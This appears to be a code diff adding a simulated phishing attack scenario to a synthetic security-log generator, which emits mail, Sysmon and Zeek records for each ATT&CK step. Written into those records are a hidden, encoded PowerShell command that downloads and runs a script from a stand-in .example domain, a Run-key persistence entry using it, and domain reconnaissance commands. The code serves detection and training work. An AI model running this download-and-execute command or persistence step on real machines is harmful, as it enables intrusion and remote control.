@@ -1,0 +1,234 @@
+import { drawChance, drawInteger, drawLognormal, pick, shuffle } from "../../stats/draw.ts";
+import { startProgram } from "../activities/start-program.ts";
+import { lookUp } from "../activities/talk.ts";
+import { encodeCommand } from "../base64.ts";
+import { usersOf } from "../find-in-organisation.ts";
+import { documentWords } from "../name-pools.ts";
+import type { Service, User } from "../organisation-types.ts";
+import { outlook, type Program, powershell, word } from "../programs-plan.ts";
+import { mailReported } from "../records/mail.ts";
+import {
+  fileCreated,
+  processConnected,
+  processQueried,
+  type RunningProcess,
+  registryValueSet,
+} from "../records/sysmon.ts";
+import { newConnection, zeekConn, zeekSsl } from "../records/zeek.ts";
+import type { Scene } from "../traffic-types.ts";
+import { defineStory, type Step, strangerAddress } from "./story.ts";
+
+interface Cast {
+  readonly victim: User;
+  readonly alsoAsked: readonly User[];
+  readonly sender: string;
+  readonly senderAddress: string;
+  readonly documentName: string;
+  /** Where the implant calls home. */
+  readonly home: Service;
+  readonly periodMs: number;
+  readonly jitter: number;
+}
+
+const hidden = (cast: Cast) => {
+  const script = `$w=New-Object Net.WebClient;$w.Headers.Add('Accept','text/plain');IEX $w.DownloadString('https://${cast.home.domain}/s/${cast.periodMs}')`;
+  return `powershell.exe -NoP -NonI -W Hidden -EncodedCommand ${encodeCommand(script)}`;
+};
+
+const lure: Step<Cast> = {
+  id: "lure",
+  technique: "T1566.001",
+  tactic: "initial-access",
+  dwellMs: 75_000,
+  jitter: 0.5,
+  emits(scene, cast) {
+    const { identifiers } = scene;
+    [cast.victim, ...cast.alsoAsked].forEach((user, index) => {
+      scene.emit(
+        index * 700,
+        "mail",
+        mailReported({
+          messageId: `<${identifiers.hex(20)}@${cast.sender.split("@")[1]}>`,
+          from: cast.sender,
+          to: [user.mail],
+          subject: `Outstanding ${cast.documentName}`,
+          attachments: [{ name: `${cast.documentName}.docm`, sha256: identifiers.hex(64), size: 84_112 }],
+          verdict: "delivered",
+          clientAddress: cast.senderAddress,
+          size: 121_440,
+        }),
+      );
+    });
+    return 3_000;
+  },
+};
+
+const open: Step<Cast> = {
+  id: "open",
+  technique: "T1204.002",
+  tactic: "execution",
+  dwellMs: 5_000,
+  jitter: 0.5,
+  emits(scene, cast) {
+    const path = `C:\\Users\\${cast.victim.name}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\${cast.documentName}.docm`;
+    const process = startProgram(scene, 400, machineOf(scene, cast), {
+      program: word,
+      commandLine: `"${word.image}" /n "${path}" /o ""`,
+      parentImage: outlook.image,
+      parentCommandLine: `"${outlook.image}"`,
+    });
+    scene.emit(0, "windows", fileCreated({ ...process, image: outlook.image }, path));
+    return 2_000;
+  },
+};
+
+const script: Step<Cast> = {
+  id: "script",
+  technique: "T1059.001",
+  tactic: "execution",
+  dwellMs: 9_000,
+  jitter: 0.5,
+  emits(scene, cast) {
+    const process = startProgram(scene, 0, machineOf(scene, cast), {
+      program: powershell,
+      commandLine: hidden(cast),
+      parentImage: word.image,
+      parentCommandLine: `"${word.image}" /n "${cast.documentName}.docm"`,
+    });
+    callHome(scene, 1_200, cast, process);
+    return 3_000;
+  },
+};
+
+const persist: Step<Cast> = {
+  id: "persist",
+  technique: "T1547.001",
+  tactic: "persistence",
+  dwellMs: 10_000,
+  jitter: 0.5,
+  emits(scene, cast) {
+    const key = `HKU\\${cast.victim.sid}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\OneStart`;
+    scene.emit(0, "windows", registryValueSet(implantOf(scene, cast), key, hidden(cast)));
+    return 500;
+  },
+};
+
+const beacon: Step<Cast> = {
+  id: "beacon",
+  technique: "T1071.001",
+  tactic: "command-and-control",
+  dwellMs: 120_000,
+  jitter: 0.3,
+  emits(scene, cast) {
+    const { random } = scene;
+    const lastMs = drawInteger(random, 60, 120) * 60_000;
+    for (
+      let delayMs = 0;
+      delayMs < lastMs;
+      delayMs += cast.periodMs * (1 + cast.jitter * (2 * random.fraction() - 1))
+    ) {
+      callHome(scene, delayMs, cast, drawChance(random, 0.2) ? implantOf(scene, cast) : null);
+    }
+    // The implant keeps calling while its owner goes on with the next step.
+    return 0;
+  },
+};
+
+const explore: Step<Cast> = {
+  id: "explore",
+  technique: "T1087.002",
+  tactic: "discovery",
+  dwellMs: 0,
+  jitter: 0,
+  emits(scene, cast) {
+    const commands = [
+      "whoami.exe /all",
+      'net.exe group "Domain Admins" /domain',
+      "nltest.exe /dclist:HARBOUR",
+      "net.exe view \\\\FILE-01 /all",
+      "quser.exe",
+    ];
+    let delayMs = 0;
+    for (const commandLine of commands) {
+      const program: Program = {
+        image: `C:\\Windows\\System32\\${commandLine.split(" ")[0]}`,
+        description: "",
+        company: "Microsoft Corporation",
+      };
+      startProgram(scene, delayMs, machineOf(scene, cast), {
+        program,
+        commandLine,
+        parentImage: powershell.image,
+        parentCommandLine: hidden(cast),
+      });
+      delayMs += drawLognormal(scene.random, 14_000, 0.5);
+    }
+    return delayMs;
+  },
+};
+
+/** A mail brings a document, its macro starts a hidden script, and the script calls home at regular times. */
+export const phishing = defineStory<Cast>({
+  name: "phishing",
+  steps: [lure, open, script, persist, beacon, explore],
+  cast(scene) {
+    const { organisation, random } = scene;
+    const [victim, ...others] = shuffle(random, usersOf(organisation, "office", "finance", "sales", "executive"));
+    if (victim === undefined) throw new Error("The organisation has nobody to write to");
+    const word = () => pick(random, ["parcel", "ledger", "notice", "claims", "portal", "secure", "remit", "doc"]);
+    const ending = () => `${scene.identifiers.hex(4)}.example`;
+    return {
+      victim,
+      alsoAsked: others.slice(0, drawInteger(random, 1, 4)),
+      sender: `accounts@${word()}-${ending()}`,
+      senderAddress: strangerAddress(scene),
+      documentName: `${pick(random, documentWords)}-${drawInteger(random, 1_000, 9_999)}`,
+      home: { domain: `${word()}-${word()}-${ending()}`, addresses: [strangerAddress(scene)] },
+      periodMs: drawInteger(random, 40, 75) * 1_000,
+      jitter: 0.05 + 0.1 * random.fraction(),
+    };
+  },
+});
+
+function machineOf({ organisation }: Scene, { victim }: Cast) {
+  return { computer: victim.workstation.name, account: `${organisation.netbios}\\${victim.name}` };
+}
+
+function implantOf(scene: Scene, cast: Cast): RunningProcess {
+  const { computer, account } = machineOf(scene, cast);
+  const { identifiers, organisation } = scene;
+  return {
+    computer: `${computer}.${organisation.domain}`,
+    account,
+    image: powershell.image,
+    processId: identifiers.processId(),
+    guid: identifiers.uuid(),
+  };
+}
+
+/** One call: small, nearly always of the same size. The machine's own log shows it only where a process is given. */
+function callHome(scene: Scene, delayMs: number, cast: Cast, process: RunningProcess | null): void {
+  const { random, identifiers } = scene;
+  const from = cast.victim.workstation.address;
+  const to = cast.home.addresses[0] ?? "192.0.2.1";
+  const connection = newConnection(identifiers, { from, to, toPort: 443 });
+  if (process !== null) {
+    lookUp(scene, delayMs, from, cast.home.domain, cast.home.addresses);
+    scene.emit(delayMs + 15, "windows", processQueried(process, cast.home.domain, cast.home.addresses));
+    scene.emit(
+      delayMs + 60,
+      "windows",
+      processConnected(process, { from, fromPort: connection.fromPort, to, toPort: 443, name: cast.home.domain }),
+    );
+  }
+  const summary = {
+    protocol: "tcp",
+    service: "ssl",
+    state: "SF",
+    durationMs: drawLognormal(random, 420, 0.15),
+    bytesOut: 614 + drawInteger(random, 0, 24),
+    bytesIn: 1_180 + drawInteger(random, 0, 40),
+  } as const;
+  scene.emit(delayMs + 40, "zeek.conn", zeekConn(connection, summary));
+  scene.emit(delayMs + 70, "zeek.ssl", zeekSsl(connection, cast.home.domain));
+}
